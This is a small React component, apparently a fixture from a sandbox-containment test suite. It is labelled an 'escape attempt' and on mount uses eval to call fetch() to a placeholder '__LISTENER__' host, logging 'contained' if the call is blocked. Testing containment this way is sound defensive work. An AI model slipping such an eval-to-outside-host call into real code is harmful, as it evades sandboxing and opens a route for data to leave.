import { useEffect } from "react";

// Escape attempt: eval_string
export default function Hostile() {
  useEffect(() => {
    try {
      eval("fetch('__LISTENER__/eval_string')");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">eval_string</p>;
}
